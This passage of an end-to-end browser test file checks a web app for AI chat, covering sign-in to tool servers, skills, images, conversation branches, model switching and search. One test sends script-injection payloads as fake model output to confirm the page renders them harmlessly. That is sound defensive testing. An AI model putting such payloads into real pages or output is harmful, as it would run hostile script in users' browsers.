  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("link", { name: "Allow" }).click();
  await page.getByText("Signed in to the server").waitFor();
  assert.equal(new URL(page.url()).pathname + new URL(page.url()).search, "/servers?show=attention");
  await page.goto("/servers/MCPServer/default/gates");
  await page.locator(".tag", { hasText: "Signed in" }).waitFor();
  await page.getByText("open_gate").first().waitFor();

  const chat = await window_(t, hub);
  await chat.goto("/");
  await say(chat, "call gates__open_gate with gate=north");
  await chat.getByRole("button", { name: "Allow once" }).click();
  await chat.getByText("The gate north is open.").first().waitFor();
  assert.deepEqual(gates.opened, ["north"]);

  await page.getByRole("button", { name: "Sign out" }).click();
  await page.locator(".tag", { hasText: "Sign-in needed" }).first().waitFor();
  assert.equal(gates.tokens.size, 0);

  // A deleted server can be signed out of, too.
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("link", { name: "Allow" }).click();
  await page.locator(".tag", { hasText: "Signed in" }).waitFor();
  await page.goto("/servers"); // the list needs no sign-in
  await hub.ask("DELETE", "/kinds/MCPServer/default/gates");
  await page.reload();
  await page.getByText("Your sign-ins: 1").click();
  await page.screenshot({ path: join(pictures, "servers-mine.png") });
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByText("Signed out. The token was revoked").waitFor();
  await page.getByText("Your sign-ins").waitFor({ state: "detached" });
  assert.equal(gates.tokens.size, 0);
  page.calm();
  chat.calm();
});

test("composer: a skill is written, fixed, tried and saved, then changed as a new version", async (t) => {
  const hub = await scene(t);
  const page = await window_(t, hub);
  await page.goto("/compose");
  await page
    .getByRole("button", { name: /Instructions/ })
    .first()
    .click();
  await page.getByLabel("Name", { exact: true }).fill("tides");
  await page.getByLabel("Description", { exact: true }).fill("Reads tide tables. Use for questions on high water.");
  await page.getByText("Follows the specification").first().waitFor();
  await page.getByRole("tab", { name: "Search preview" }).click();
  await page.getByRole("textbox").first().fill("when is high water?");
  await page.getByText(/tides/).first().waitFor();
  await page.getByRole("button", { name: "Save…" }).click();
  await page.getByRole("dialog").getByRole("button", { name: /^Save/ }).last().click();
  await page.waitForURL(/\/library\//);
  const { items } = await hub.ask("GET", "/skills?namespace=default");
  assert.deepEqual(
    items.map((s) => s.name),
    ["tides"],
  );
  await page.goto(`/compose/${items[0].id}`);
  await page
    .getByLabel("Description", { exact: true })
    .fill("Reads tide tables. Use for questions on high and low water.");
  await page.getByText("Follows the specification").first().waitFor();
  await page.keyboard.press("Control+s");
  await page.getByRole("dialog").getByRole("button", { name: /^Save/ }).last().click();
  await page.waitForURL(/\/library\//);
  assert.match((await hub.ask("GET", `/skills/${items[0].id}`)).description, /low water/);
  page.calm();
});

test("skill:request: the page renders a diagram, and reports errors so that the model fixes them", async (t) => {
  const vendor = await Vendor.start([
    { call: ["render_mermaid", { code: "flowchart TD\n  a[open --> b" }] },
    { call: ["render_mermaid", { code: "flowchart TD\n  a[open] --> b[closed]" }] },
    { text: "Here is the picture." },
  ]);
  t.after(() => vendor.end());
  const hub = await scene(t, {
    env: { OPENAI_API_KEY: "none" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n`,
  });
  const page = await window_(t, hub);
  await page.goto("/");
  await say(page, "draw the gate");
  await page.getByText("Here is the picture.").first().waitFor({ timeout: 60_000 });
  const told = vendor.heard
    .at(-1)
    .messages.filter((m) => m.role === "tool")
    .map((m) => m.content);
  assert.match(told[0], /line/);
  assert.match(told[1], /The diagram renders/);
  page.calm();
});

test("chat: a figure that the agent's Python draws with an active skill is shown and kept as a file", async (t) => {
  const draw =
    'import sys; sys.path.insert(0, "/needs/gmv_analysis/scripts"); import chart; chart.bars("chart.png", [3, 4, 9], [2])';
  const vendor = await Vendor.start([
    { call: ["load_skill", { name: "gmv_analysis" }] },
    { call: ["run_command", { command: `python3 -c '${draw}'` }] },
    { text: "The last day is unusual." },
  ]);
  t.after(() => vendor.end());
  const hub = await scene(t, {
    env: { OPENAI_API_KEY: "none" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n  images: always\n`,
  });
  const gmv = new URL("../../cmd/loadout/testdata/gmv/skills/gmv_analysis/", import.meta.url);
  const made = await hub.upload("gmv_analysis", {
    "SKILL.md": skill("gmv_analysis", "Finds unusual days of a metric. Use when GMV looks wrong."),
    "scripts/chart.py": await readFile(new URL("scripts/chart.py", gmv), "utf8"),
  });
  await hub.ask("PUT", `/skills/${made.id}/versions/1/review`, { decision: "approved", digest: made.digest });
  const page = await window_(t, hub);
  await page.goto("/");
  await say(page, "Is the GMV unusual?");
  await page.getByText("The last day is unusual.").first().waitFor({ timeout: 60_000 });
  const figure = page.locator("img.chat-picture");
  await figure.waitFor();
  assert.deepEqual(await figure.evaluate((e) => [e.naturalWidth, e.naturalHeight]), [12, 60]);
  assert.deepEqual(await figure.evaluate((e) => [e.clientWidth, e.clientHeight]), [12, 60]);
  await page.getByText("chart.png", { exact: true }).waitFor();
  assert.ok(JSON.stringify(vendor.heard.at(-1).messages).includes("data:image/png;base64,"), "the model sees it");
  page.calm();
});

test("chat: a message is edited, answered again and left for a branch; its versions stay, also after a reload", async (t) => {
  const said = (text) => ({ text: `Answer ${text}.` });
  const vendor = await Vendor.start([
    said("one"),
    said("two"),
    { call: ["load_skill", { name: "csv-analysis" }] },
    said("three"),
    said("four"),
    said("five"),
    said("six"),
    said("seven"),
  ]);
  t.after(() => vendor.end());
  const hub = await scene(t, {
    env: { OPENAI_API_KEY: "none" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n`,
  });
  const page = await window_(t, hub);
  const heard = () =>
    vendor.heard
      .at(-1)
      .messages.filter((m) => m.role === "user")
      .map((m) => JSON.stringify(m.content));
  const answers = async (...wanted) => {
    const last = page.getByText(`Answer ${wanted.at(-1)}.`, { exact: true });
    await last.waitFor();
    await page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "detached" });
    assert.deepEqual(
      await page.locator(".chat-answer").allInnerTexts(),
      wanted.map((n) => `Answer ${n}.`),
    );
  };
  const turn = (n) => page.locator("article").nth(n);
  const versions = (n) => turn(n).getByRole("group", { name: "Versions" });
  const context = page.getByRole("region", { name: "Context" });
  const skill = context.getByText("csv-analysis").first();
  const file = (name) => context.getByRole("button", { name: `View ${name}` });
  const attach = async (name) => {
    const composer = page.locator("form.chat-composer");
    const content = { name, mimeType: "text/plain", buffer: Buffer.from(name) };
    await composer.locator("input[type=file]").setInputFiles(content);
    await composer.getByText(name).waitFor();
  };

  await page.goto("/");
  await say(page, "first question");
  await answers("one");
  await attach("before.txt");
  await say(page, "second question");
  await answers("one", "two");
  await file("before.txt").waitFor();

  await turn(1).getByRole("button", { name: "Edit" }).click(); // edit and resend; Escape leaves
  await page.getByRole("textbox", { name: "Edit message" }).press("Escape");
  await page.locator("article:nth-of-type(2) button:focus").press("Enter"); // the focus is on Edit again
  await page.getByRole("textbox", { name: "Edit message" }).fill("better question");
  await page.keyboard.press("Enter");
  await answers("one", "three");
  await page.locator("article:nth-of-type(2) .chat-said:focus").waitFor();
  await file("before.txt").waitFor();
  assert.ok(!heard().join().includes("second question") && heard().at(-1).includes("better question"));
  await skill.waitFor();

  await versions(1).getByRole("button", { name: "Earlier version" }).focus(); // switch by keyboard
  await page.keyboard.press("ArrowLeft");
  await answers("one", "two");
  await versions(1).getByText("Version 1 of 2").waitFor();
  await skill.waitFor({ state: "detached" });
  assert.ok(await versions(1).evaluate((group) => group.contains(document.activeElement)), "the focus is lost");
  await page.reload();
  await answers("one", "two");

  await turn(0).getByRole("button", { name: "Try again" }).click(); // regenerate and switch back
  await answers("four");
  await file("before.txt").waitFor({ state: "detached" });
  await page.screenshot({ path: join(pictures, "branches-again.png") });
  await turn(0).locator("footer").getByRole("button", { name: "Earlier version" }).click();
  await answers("one", "two");
  await file("before.txt").waitFor();

  await turn(0).getByRole("button", { name: "Continue from here" }).click(); // branch, after a change of mind
  await page.getByText("Your next message continues after the answer to “first question”").waitFor();
  await page.screenshot({ path: join(pictures, "branches-continue.png") });
  const [end, cancel] = await page
    .locator(".chat-foot-area > .note")
    .evaluate((note) => [note, note.querySelector("button")].map((e) => e.getBoundingClientRect().right));
  assert.ok(end - cancel < 30, "Cancel is not at the end of the note");
  await page.setViewportSize({ width: 360, height: 780 });
  await page.screenshot({ path: join(pictures, "branches-continue-narrow.png") });
  await fits(page, "the note");
  await page.setViewportSize({ width: 1440, height: 900 });
  await page.getByRole("status").getByRole("button", { name: "Cancel" }).click();
  await answers("one", "two");
  await turn(0).getByRole("button", { name: "Continue from here" }).click();
  const id = new URL(page.url()).pathname.split("/").at(-1);
  await hub.ask("POST", `/sessions/${id}/skills`, { name: "csv-analysis" }); // in another window, on another branch
  await skill.waitFor();
  const continues = page.getByText("Your next message continues after the answer to “first question”");
  await continues.waitFor();
  await attach("branch.txt");
  let lost = 0;
  page.allowed = [/ERR_FAILED|Failed to fetch|net::/];
  await page.route("**/messages", async (route) => {
    if (lost++) return route.continue();
    await route.fetch(); // the request arrives, but its response is lost
    return route.abort();
  });
  await say(page, "third question");
  await answers("one", "five");
  assert.equal(lost, 2);
  await continues.waitFor({ state: "detached" });
  await file("branch.txt").waitFor();
  assert.equal(heard().length, 2);
  await versions(1).getByText("Version 3 of 3").waitFor();
  await page.screenshot({ path: join(pictures, "branches-versions.png") });
  await page.reload();
  await answers("one", "five");

  await turn(1).getByRole("button", { name: "Try again" }).click(); // the files of a message are in all its versions
  await answers("one", "six");
  await file("branch.txt").waitFor();
  await versions(1).getByRole("button", { name: "Earlier version" }).click();
  await answers("one", "five");
  await versions(1).getByRole("button", { name: "Earlier version" }).click();
  await answers("one", "three");
  await file("branch.txt").waitFor({ state: "detached" });
  await file("before.txt").waitFor();

  await versions(1).getByRole("button", { name: "Later version" }).click();
  await answers("one", "five");
  await skill.waitFor({ state: "detached" });
  await turn(0).getByRole("button", { name: "Continue from here" }).click(); // a skill is loaded on the new branch
  await context.getByRole("button", { name: "Load skill" }).click();
  await context.getByRole("searchbox", { name: "Load skill" }).fill("csv");
  await context
    .getByRole("button", { name: /^Load: / })
    .first()
    .click();
  await continues.waitFor({ state: "detached" });
  await answers("one");
  await say(page, "fourth question");
  await answers("one", "seven");
  await skill.waitFor();

  await page.goto("/audit");
  await page.getByRole("table").getByText("switch to another branch").first().waitFor();
});

/** picture returns a PNG of a colour, of which the metadata name a place. */
async function picture(page, colour) {
  const png = Buffer.from(
    await page.evaluate(async (colour) => {
      const canvas = Object.assign(document.createElement("canvas"), { width: 320, height: 200 });
      const context = canvas.getContext("2d");
      context.fillStyle = colour;
      context.fillRect(0, 0, 320, 200);
      const blob = await new Promise((done) => canvas.toBlob(done, "image/png"));
      return [...new Uint8Array(await blob.arrayBuffer())];
    }, colour),
  );
  const text = Buffer.concat([Buffer.from([0, 0, 0, 11]), Buffer.from("tEXtplace\0Paris"), Buffer.alloc(4)]);
  return Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]);
}

/** give pastes or drops files on an element of a page, as a browser does. */
const give = (target, kind, files) =>
  target.evaluate(
    (element, { kind, files }) => {
      const data = new window.DataTransfer();
      for (const f of files) data.items.add(new File([new Uint8Array(f.bytes)], f.name, { type: f.type }));
      const event =
        kind === "paste"
          ? new window.ClipboardEvent(kind, { clipboardData: data, bubbles: true, cancelable: true })
          : new window.DragEvent(kind, { dataTransfer: data, bubbles: true, cancelable: true });
      element.dispatchEvent(event);
    },
    { kind, files: files.map((f) => ({ ...f, bytes: [...f.bytes] })) },
  );

test("images: pasted, dropped and attached pictures go to a model that reads them, and are files for another one", async (t) => {
  const vendor = await Vendor.start([
    { text: "A red one." },
    { text: "Blue and green." },
    { text: "Again." },
    { text: "A file." },
  ]);
  t.after(() => vendor.end());
  const hub = await scene(t, {
    env: { OPENAI_API_KEY: "none" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n  images: always\n`,
  });
  await hub.ask("PUT", "/kinds/Model/default/plain", {
    kind: "Model",
    metadata: { name: "plain" },
    spec: { vendor: "openai", model: "plain", baseUrl: vendor.url },
  });
  const page = await window_(t, hub);
  page.allowed = [];
  await page.goto("/");
  const composer = page.locator("form.chat-composer");
  const added = composer.getByRole("list", { name: "Files with this message" });
  const red = await picture(page, "red");
  const heard = () => {
    const { content } = vendor.heard.at(-1).messages.findLast((m) => m.role === "user");
    const parts = Array.isArray(content) ? content : [{ type: "text", text: content }];
    const urls = parts.filter((p) => p.type === "image_url").map((p) => p.image_url.url);
    return { urls, text: parts.map((p) => p.text ?? "").join("") };
  };

  await give(page.locator("body"), "paste", [{ name: "image.png", type: "image/png", bytes: red }]); // a new conversation
  await added.getByText(/pasted-\d+-\d+\.png/).waitFor();
  await added.getByRole("button", { name: /^View pasted/ }).click();
  await page.getByRole("dialog").getByRole("img").waitFor();
  await page.keyboard.press("Escape");
  await page.screenshot({ path: join(pictures, "image-pasted.png") });
  await say(page, "What is this?");
  await page.getByText("A red one.", { exact: true }).waitFor();
  const [url] = heard().urls;
  assert.match(url, /^data:image\/png;base64,/);
  const sent = Buffer.from(url.split(",")[1], "base64");
  assert.ok(!sent.includes("Paris") && red.includes("Paris"), "the metadata are sent");
  assert.equal(sent.length, red.length - 23);
  assert.match(heard().text, /pasted-.*What is this\?/s);

  const blue = { name: "blue.png", type: "image/png", bytes: await picture(page, "blue") };
  const list = { name: "list.txt", type: "text/plain", bytes: Buffer.from("one") };
  await give(page.getByRole("region", { name: "Messages" }), "drop", [blue, list]); // anywhere on the conversation
  await added.getByText("list.txt").waitFor();
  await composer
    .locator("input[type=file]")
    .setInputFiles([{ name: "green.png", mimeType: "image/png", buffer: await picture(page, "green") }]);
  await added.getByText("green.png").waitFor();
  await give(composer, "paste", [{ name: "x.png", type: "image/png", bytes: Buffer.from("not a picture") }]);
  await added.getByText("x.png").waitFor();
  await say(page, "And these?");
  await page.getByText("Blue and green.", { exact: true }).waitFor();
  assert.equal(heard().urls.length, 2);
  assert.match(heard().text, /Files added: list\.txt, x\.png/); // which is no picture
  assert.equal(vendor.heard.at(-1).messages.filter((m) => JSON.stringify(m).includes(url)).length, 1); // the first one is still there

  const thumb = page.locator("article").nth(1).getByRole("button", { name: "View blue.png" });
  await thumb.click();
  const large = page.getByRole("dialog", { name: "blue.png" });
  await large.getByRole("img", { name: "blue.png" }).waitFor();
  assert.equal(await large.getByRole("img").evaluate((img) => img.decode().then(() => img.naturalWidth)), 320);
  await page.screenshot({ path: join(pictures, "image-large.png") });
  await page.keyboard.press("Escape");
  await hub.down();
  await hub.up();
  page.allowed.push(/ERR_CONNECTION_REFUSED|Failed to fetch|status of 50/);
  await page.reload();
  await thumb.waitFor();
  await page.locator("article").nth(1).getByRole("button", { name: "Try again" }).click();
  await page.getByText("Again.", { exact: true }).waitFor();
  assert.equal(heard().urls.length, 2);

  await page.getByRole("button", { name: "Model: fake" }).click(); // of another model, the message box says what it does not read
  await page.getByRole("menuitem", { name: /plain/ }).click();
  await give(composer, "paste", [blue]);
  await composer.getByText("plain does not read images. It gets them as files.").waitFor();
  for (const width of [1440, 360]) {
    await page.setViewportSize({ width, height: 900 });
    await page.screenshot({ path: join(pictures, `image-text-model-${width}.png`) });
    await fits(page, `the page at ${width}`);
  }
  await say(page, "And now?");
  await page.getByText("A file.", { exact: true }).waitFor();
  assert.equal(vendor.heard.at(-1).model, "plain");
  assert.ok(
    !JSON.stringify(vendor.heard.at(-1)).includes("data:image"),
    "images are sent to a model that does not read them",
  );
  assert.match(heard().text, /Image blue-2\.png omitted: this model does not accept images/);
});

/** noise returns a large PNG, which cannot be compressed, and a small BMP image. */
async function noise(page) {
  const png = Buffer.from(
    await page.evaluate(async () => {
      const canvas = Object.assign(document.createElement("canvas"), { width: 1300, height: 1100 });
      const context = canvas.getContext("2d");
      const image = context.createImageData(1300, 1100);
      for (let i = 0; i < image.data.length; i += 65536)
        window.crypto.getRandomValues(image.data.subarray(i, i + 65536));
      for (let i = 3; i < image.data.length; i += 4) image.data[i] = 255;
      context.putImageData(image, 0, 0);
      const blob = await new Promise((done) => canvas.toBlob(done, "image/png"));
      return window.btoa(
        new Uint8Array(await blob.arrayBuffer()).reduce((text, byte) => text + String.fromCharCode(byte), ""),
      );
    }),
    "base64",
  );
  const bmp = Buffer.alloc(58);
  bmp.write("BM");
  [
    [2, 58],
    [10, 54],
    [14, 40],
    [18, 1],
    [22, 1],
    [34, 4],
  ].forEach(([at, value]) => bmp.writeUInt32LE(value, at));
  bmp.writeUInt16LE(1, 26);
  bmp.writeUInt16LE(24, 28);
  return { png, bmp };
}

test("pictures: only a model that reads images gets them scaled or converted; files beside a conversation stay as they are", async (t) => {
  const vendor = await Vendor.start([{ text: "Noise." }, { text: "Files." }]);
  t.after(() => vendor.end());
  const hub = await scene(t, {
    env: { OPENAI_API_KEY: "none" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n  images: always\n`,
  });
  await hub.ask("PUT", "/kinds/Model/default/plain", {
    kind: "Model",
    metadata: { name: "plain" },
    spec: { vendor: "openai", model: "plain", baseUrl: vendor.url },
  });
  const page = await window_(t, hub);
  await page.goto("/");
  const { png, bmp } = await noise(page);
  assert.ok(png.length > 15 << 18 && png.length < 8 << 20, `${png.length} bytes`);
  const composer = page.locator("form.chat-composer");
  const added = composer.getByRole("list", { name: "Files with this message" });
  const large = { name: "noise.png", mimeType: "image/png", buffer: png };
  await composer
    .locator("input[type=file]")
    .setInputFiles([
      large,
      { name: "dot.bmp", mimeType: "image/bmp", buffer: bmp },
      { name: "phone.heic", mimeType: "", buffer: Buffer.from("not drawn") },
      { name: "plan.svg", mimeType: "image/svg+xml", buffer: Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'/>") },
    ]);
  await added
    .getByText("scaled to 1,300 × 1,100 for the model")
    .or(added.getByText("scaled to 1300 × 1100 for the model"))
    .waitFor();
  await added.getByText("converted to JPEG for the model").waitFor();
  await composer.getByText("Models cannot read these as images, and get them as files: phone.heic, plan.svg").waitFor();
  for (const width of [1440, 360]) {
    await page.setViewportSize({ width, height: 900 });
    await page.screenshot({ path: join(pictures, `picture-scaled-${width}.png`) });
    await fits(page, `the page at ${width}`);
  }
  await page.setViewportSize({ width: 1440, height: 900 });
  await say(page, "What is this?");
  await page.getByText("Noise.", { exact: true }).waitFor();
  const [{ id }] = (await hub.ask("GET", "/sessions")).items;
  const files = async () =>
    (await hub.ask("GET", `/sessions/${id}/files`)).items.map((f) =>
      f.path.startsWith("noise") ? `${f.path} ${f.size === png.length}` : f.path,
    );
  assert.deepEqual(await files(), ["dot.jpg", "noise.jpg false", "phone.heic", "plan.svg"]);

  // A model that reads no images gets the file itself.
  await page.getByRole("button", { name: "Model: fake" }).click();
  await page.getByRole("menuitem", { name: /plain/ }).click();
  await composer.locator("input[type=file]").setInputFiles([large]);
  await composer.getByText("plain does not read images. It gets them as files.").waitFor();
  assert.equal(await added.getByText(/for the model/).count(), 0);
  await say(page, "And this?");
  await page.getByText("Files.", { exact: true }).waitFor();
  assert.ok((await files()).includes("noise.png true"), `${await files()}`);

  // Beside the conversation, files stay as they are, and replace no others.
  await page
    .locator("section", { has: page.getByRole("heading", { name: "Files", exact: true }) })
    .last()
    .locator("input[type=file]")
    .setInputFiles([large]);
  await page.getByText("noise.png was added as noise-2.png, because a file with its name exists.").waitFor();
  assert.ok((await files()).includes("noise-2.png true"), `${await files()}`);
});

test("model picker: another model answers from the next message on, also after a restart, until it is removed", async (t) => {
  const vendor = await Vendor.start(["One.", "Two.", "Three.", "Four."].map((text) => ({ text })));
  t.after(() => vendor.end());
  const hub = await scene(t, {
    env: { OPENAI_API_KEY: "none" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n  window: 128000\n  prices: {"*": {input: 3, output: 15}}\n`,
  });
  for (const name of ["fast", "slow"])
    await hub.ask("PUT", `/kinds/Model/default/${name}`, {
      kind: "Model",
      metadata: { name },
      spec: { vendor: "openai", model: `${name}-1`, baseUrl: vendor.url, images: name === "fast" },
    });
  const page = await window_(t, hub);
  const model = () => vendor.heard.at(-1).model;
  const menu = (name) => page.getByRole("button", { name: `Model: ${name}` });
  await page.goto("/");
  await menu("fake").click();
  const items = page.getByRole("menuitem");
  const listed = await items.evaluateAll((all) => all.map((i) => i.innerText.replace(/\s+/g, " ").trim()));
  assert.match(
    listed[0],
    /^fake \(selected\) default · .* · 128K tokens of context · \$3\.00 in, \$15\.00 out per million tokens · text only$/,
  );
  assert.match(
    listed[1],
    /^fast-1 fast · 127\.0\.0\.1:\d+ · \$3\.00 in, \$15\.00 out per million tokens · reads images$/,
  );
  assert.match(listed[2], /^slow-1 slow · .* · text only$/);
  await page.keyboard.press("ArrowDown"); // for a new conversation, by keyboard
  await page.screenshot({ path: join(pictures, "model-menu.png") });
  await page.keyboard.press("Enter");
  await menu("fast-1").waitFor();
  await say(page, "first");
  await page.getByText("One.", { exact: true }).waitFor();
  assert.equal(model(), "fast-1");
  await page
    .locator("article")
    .nth(0)
    .getByText(/fast-1/)
    .waitFor(); // which model answered

  await menu("fast-1").click(); // by mouse, for the next message
  await page.getByRole("menuitem", { name: /slow-1/ }).click();
  await menu("slow-1").waitFor();
  await say(page, "second");
  await page.getByText("Two.", { exact: true }).waitFor();
  assert.equal(model(), "slow-1");
  await page
    .locator("article")
    .nth(1)
    .getByText(/slow-1/)
    .waitFor();
  await page
    .locator("article")
    .nth(0)
    .getByText(/fast-1/)
    .waitFor();

  await hub.down();
  page.allowed = [/ERR_|Failed to fetch|status of 50/];
  await hub.up();
  await page.reload();
  await menu("slow-1").waitFor();
  await say(page, "third");
  await page.getByText("Three.", { exact: true }).waitFor();
  assert.equal(model(), "slow-1");

  await hub.ask("DELETE", "/kinds/Model/default/slow");
  await say(page, "fourth");
  await page
    .getByText(/the model chosen for this conversation was removed.*choose another model/)
    .first()
    .waitFor();
  await page.reload();
  await page
    .getByText("The model of this conversation was removed, or you may no longer use it.", { exact: false })
    .waitFor();
  for (const width of [1440, 360]) {
    await page.setViewportSize({ width, height: 900 });
    await menu("Removed model").click();
    await page.screenshot({ path: join(pictures, `model-removed-${width}.png`) });
    await fits(page, `the page at ${width}`);
    await page.keyboard.press("Escape");
  }
  await menu("Removed model").click();
  await page.getByRole("menuitem", { name: /fake/ }).click();
  await page.locator("article").nth(3).getByRole("button", { name: "Try again" }).click();
  await page.getByText("Four.", { exact: true }).waitFor();
  assert.equal(model(), "fake");
});

test("hostile model output: nothing runs, and nothing is loaded from other hosts; formulas are drawn", async (t) => {
  const vendor = await Vendor.start([
    {
      text: '# Hello <script>window.hurt=1</script>\n\n<img src=x onerror="window.hurt=1"> [link](javascript:window.hurt=1) ![p](https://example.com/p.png)\n\n```mermaid\nflowchart TD\n  a["<img src=x onerror=window.hurt=1>"] --> b\n  click a "javascript:window.hurt=1"\n```\n\nThe sum $\\sum_{i=1}^n x_i$ of a $5 bill and a $10 bill, $\\href{javascript:window.hurt=1}{x}$:\n\n\\[\n\\frac{a_1 * b_1}{c} * 2\n\\]\n\nDone.',
    },
  ]);
  t.after(() => vendor.end());
  const hub = await scene(t, {
    env: { OPENAI_API_KEY: "none" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n`,
  });
  const page = await window_(t, hub);
  await page.goto("/");
  await say(page, "hurt me");
  await page.getByText("Done.").first().waitFor();
  await page.locator("main svg").first().waitFor();
  assert.equal(await page.evaluate(() => window.hurt), undefined);
  assert.equal(await page.locator('a[href^="javascript"]').count(), 0);
  await page.locator(".content-equation .katex").waitFor();
  assert.equal(await page.locator("math mfrac").count(), 1);
  await page.getByText("of a $5 bill and a $10 bill").waitFor();
  const font = await page.evaluate(async () => (await document.fonts.ready).check("16px KaTeX_Main"));
  assert.ok(font, "the font of formulas is not loaded");
  page.calm(); // also no request to example.com
});

test("by keyboard only: a skill is selected and a message sent, and the content is one step away", async (t) => {
  const hub = await scene(t);
  await hub.upload("tides", { "SKILL.md": skill("tides", "Reads tide tables. Use for questions on tides.") });
  const page = await window_(t, hub);
  await page.goto("/");
  await page.getByRole("textbox", { name: "Message" }).waitFor();
  await page.keyboard.type("/ti");
  await page.getByRole("option", { name: /tides/ }).waitFor();
  await page.keyboard.press("Enter");
  await page.keyboard.type("what is it for?");
  await page.keyboard.press("Enter");
  await page.waitForURL(/\/chat\//);
  const id = page.url().split("/").at(-1);
  await over(hub, id);
  const { items } = await hub.ask("GET", `/sessions/${id}/skills`);
  assert.deepEqual(
    items.map((s) => s.skill.name),
    ["tides"],
  );
  await page.goto("/library");
  await page.getByRole("link", { name: /tides/ }).first().waitFor();
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.className), "skip");
  page.calm();
});

test("an old conversation is found by a word in it, by keyboard and by mouse, and opens at the message", async (t) => {
  const hub = await scene(t);
  const start = async (title, ...messages) => {
    const { id } = await hub.ask("POST", "/sessions", { title });
    for (const text of messages) {
      await hub.ask("POST", `/sessions/${id}/messages`, { text });
      await over(hub, id);
    }
    return id;
  };
  const many = Array.from({ length: 12 }, (_, i) => `Remark ${i}.`);
  const old = await start("A walk", "Was the lighthouse at 潮汐表 open?", ...many);
  // An answer on another branch than the current one.
  const edited = await start("Knots", "Show me the bowline.");
  await hub.ask("POST", `/sessions/${edited}/messages`, { text: "Show me the hitch.", after: 0 });
  await over(hub, edited);
  for (let i = 0; i < 3; i++) await start(`Other ${i}`, "Nothing.");
  const page = await window_(t, hub);
  await page.goto("/library");
  await page.getByRole("heading", { level: 1 }).first().waitFor();
  await page.keyboard.press("Control+k");
  const palette = page.getByRole("dialog", { name: "Search and commands" });
  const field = palette.getByRole("combobox");
  await field.waitFor();
  await page.keyboard.type("walk"); // by title at once
  await palette.getByRole("option", { name: /A walk/ }).waitFor();
  await field.fill("LIGHTH open");
  await palette.locator("mark", { hasText: "lighthouse" }).waitFor();
  assert.deepEqual(await palette.locator("mark").allTextContents(), ["lighthouse", "open"]);
  await page.screenshot({ path: join(pictures, "palette-wide.png") });
  // Enter opens nothing that was found for the text before.
  await field.evaluate(async (field) => {
    field.value = "zzzz";
    field.dispatchEvent(new window.Event("input", { bubbles: true }));
    await new Promise(window.requestAnimationFrame);
    field.dispatchEvent(new window.KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true }));
  });
  await palette.getByText("No matches").waitFor();
  await field.fill("LIGHTH open");
  await palette.locator("mark", { hasText: "lighthouse" }).waitFor();
  await page.keyboard.press("Enter");
  await page.waitForURL((url) => url.pathname === `/chat/${old}`);
  const mark = page.locator(".is-found");
  await mark.waitFor();
  assert.match(await mark.textContent(), /lighthouse/);
  await page.waitForFunction(() => {
    const { top, bottom } = document.querySelector(".is-found").getBoundingClientRect();
    return top >= 0 && bottom <= innerHeight;
  });
  assert.match(await page.evaluate(() => document.activeElement.textContent), /lighthouse/);
  await page.screenshot({ path: join(pictures, "found-wide.png") });
  assert.equal(await palette.count(), 0);
  await page.waitForURL((url) => !url.search);
  // The same result leads to the message again.
  await page.getByRole("button", { name: "Newest messages" }).click();
  await mark.waitFor({ state: "detached" });
  await page.keyboard.press("Control+k");
  await field.fill("LIGHTH open");
  await palette.locator("mark", { hasText: "lighthouse" }).waitFor();
  await page.keyboard.press("Enter");
  await mark.waitFor();

  // By mouse: the field above the list opens the same search. The message is on another branch.
  await page.getByRole("navigation", { name: "Conversations" }).getByRole("button", { name: "Search" }).click();
  await field.fill("bowline");
  await palette.getByRole("option", { name: /Knots/ }).locator("mark").first().waitFor();
  await palette.getByRole("option", { name: /Knots/ }).click();
  await page.getByRole("button", { name: "Show version" }).click();
  await mark.waitFor();
  assert.match(await mark.textContent(), /bowline/);
  await page.keyboard.press("Control+k");
  await field.fill("hitch");
  await palette.locator("mark", { hasText: "hitch" }).first().waitFor();
  await page.keyboard.press("Enter");
  const elsewhere = page.locator(".chat-elsewhere");
  await elsewhere.getByRole("button", { name: "Dismiss" }).click();
  await elsewhere.waitFor({ state: "detached" });

  // Chinese, and commands.
  await page.keyboard.press("Control+k");
  await field.fill("潮汐");
  await palette.locator("mark", { hasText: "潮汐" }).first().waitFor();
  // Enter right after the list is drawn opens its first option, not one that was marked for the text before.
  await field.evaluate(async (field) => {
    field.value = "usage";
    field.dispatchEvent(new window.Event("input", { bubbles: true }));
    while (!document.querySelector("[role=option]")?.textContent.includes("Usage")) await undefined;
    field.dispatchEvent(new window.KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true }));
  });
  await page.getByRole("heading", { level: 1, name: "Usage" }).waitFor();
  await page.keyboard.press("?");
  const sheet = page.getByRole("dialog", { name: "Keyboard shortcuts" });
  await sheet.getByText("Search and commands").waitFor();
  await page.screenshot({ path: join(pictures, "shortcuts-wide.png") });
  await page.keyboard.press("Escape");
  await sheet.waitFor({ state: "detached" });
  // The letter for a new conversation leaves no form with unsaved text.
  await page.goto("/settings");
  const display = page.getByLabel("Display name");
  await display.fill("Ada");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  await page.keyboard.press("c");
  await page.keyboard.press("?");
  await sheet.waitFor();
  assert.equal(new URL(page.url()).pathname, "/settings");
  await page.keyboard.press("Escape");
  await display.fill("");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  await page.keyboard.press("c");
  await page.waitForURL((url) => url.pathname === "/");

  // In a conversation: rename, the next one, the last message, and nothing while typing.
  await page.goto(`/chat/${old}`);
  const box = page.getByRole("textbox", { name: "Message" });
  await page.getByText("Remark 11.").first().waitFor();
  await box.focus();
  await page.keyboard.type("c?/s");
  assert.equal(await box.inputValue(), "c?/s");
  await box.fill("");
  await page.keyboard.press("ArrowUp");
  await page.getByRole("textbox", { name: "Edit message" }).waitFor();
